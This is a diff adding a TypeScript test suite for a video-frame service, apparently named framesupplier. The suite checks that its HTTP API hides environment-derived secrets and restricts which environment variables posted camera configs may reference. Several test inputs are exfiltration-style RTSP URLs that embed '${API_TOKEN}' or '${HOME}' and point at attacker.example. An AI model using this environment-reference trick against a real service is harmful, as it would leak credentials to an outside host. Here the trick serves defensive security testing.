@@ -1,0 +1,82 @@
+/**
+ * What the network may do with a system composed by createApp from a config
+ * file that takes secrets from the environment: the API may reference (as
+ * `${NAME}`) only the variables the file itself references, or those the
+ * operator's envPrefixes allow; values the file took from the environment
+ * never show in GET /api/config; with http.allowExec a camera from the API may
+ * have a command worker. Real HTTP server, real system, the config parsed
+ * from YAML text as `framesupplier run` parses it.
+ */
+import assert from 'node:assert/strict';
+import { rmSync } from 'node:fs';
+import { after, before, describe, it } from 'node:test';
+import { createApp, type App } from '../../src/app/index.js';
+import { parseConfig } from '../../src/config/index.js';
+import { createLogger } from '../../src/internal/logger.js';
+import { vtest } from '../pipeline/helpers.js';
+
+const TOKEN = 'security-test-token-0123456789';
+const SHM = `/dev/shm/framesupplier-test-security-${process.pid}`;
+
+function appFrom(yaml: string, env: Record<string, string>): App {
+  const config = parseConfig(yaml, { env, fileName: 'security.yaml' });
+  const http = config.http!;
+  return createApp(config, { logger: createLogger({ level: 'silent' }), http: { config: http } });
+}
+
+describe('the network and the environment', { timeout: 120_000 }, () => {
+  let app: App;
+  let base: string;
+  const post = async (id: string, body: unknown): Promise<{ status: number; code: string | undefined }> => {
+    const r = await fetch(`${base}/api/cameras/${id}`, { method: 'POST', headers: { authorization: `Bearer ${TOKEN}`, 'content-type': 'application/json' }, body: JSON.stringify(body) });
+    const json = (await r.json()) as { error?: { code: string } };
+    return { status: r.status, code: json.error?.code };
+  };
+
+  before(async () => {
+    app = appFrom(
+      [
+        `shmDir: ${SHM}`,
+        'http: { host: 127.0.0.1, port: 0, token: "${API_TOKEN}", envPrefixes: [CAM_], allowExec: true }',
+        'cameras:',
+        '  door:',
+        `    source: "${vtest()}"`,
+        '    capture: { loop: true, output: { width: 160, format: gray, fps: 2 } }',
+        '    workers:',
+        '      - id: motion',
+        '        module: builtin:motion',
+        '      - id: hook',
+        '        command: [sleep, "600"]',
+        '        env: { HOOK_SECRET: "${HOOK_SECRET}", LABEL: "${DOOR_LABEL}" }',
+      ].join('\n'),
+      { API_TOKEN: TOKEN, HOOK_SECRET: 'very-secret-hook-value', DOOR_LABEL: 'front-door-label' },
+    );
+    await app.start();
+    base = app.dashboard!.url.replace(/\/$/, '');
+  });
+  after(async () => {
+    await app?.close();
+    rmSync(SHM, { recursive: true, force: true });
+  });
+
+  it('GET /api/config shows no value the file took from the environment', async () => {
+    const text = await (await fetch(`${base}/api/config`, { headers: { authorization: `Bearer ${TOKEN}` } })).text();
+    for (const value of [TOKEN, 'very-secret-hook-value', 'front-door-label']) assert.ok(!text.includes(value), `${value} in ${text}`);
+    const camera = await (await fetch(`${base}/api/cameras/door`, { headers: { authorization: `Bearer ${TOKEN}` } })).text();
+    assert.ok(!camera.includes('front-door-label') && !camera.includes('very-secret-hook-value'));
+  });
+
+  it("references: the file's own names and the allowed prefixes pass, any other name is 403", async () => {
+    const camera = (source: string) => ({ source, capture: { loop: true, output: { width: 160, format: 'gray', fps: 2 } }, workers: [{ id: 'motion', module: 'builtin:motion' }] });
+    assert.deepEqual(await post('leak', camera('rtsp://${API_TOKEN}@attacker.example/x')), { status: 201, code: undefined }, 'a name the file references');
+    assert.deepEqual(await post('other', camera('rtsp://u:${CAM_OTHER_PASSWORD}@cam.local/x')), { status: 201, code: undefined }, 'a name with an allowed prefix');
+    assert.deepEqual(await post('home', camera('rtsp://${HOME}@attacker.example/x')), { status: 403, code: 'ERR_HTTP_ENV_REFERENCE' });
+    assert.deepEqual(await post('path', camera('rtsp://cam.local/${PATH}')), { status: 403, code: 'ERR_HTTP_ENV_REFERENCE' });
+    assert.equal(app.system.stats().cameras.home, undefined);
+  });
+
+  it('with http.allowExec, a camera from the API may have a command worker', async () => {
+    const r = await post('cmd', { source: vtest(), capture: { loop: true, output: { width: 160, format: 'gray', fps: 2 } }, workers: [{ id: 'sleeper', command: ['sleep', '600'] }] });
+    assert.deepEqual(r, { status: 201, code: undefined });
+  });
+});
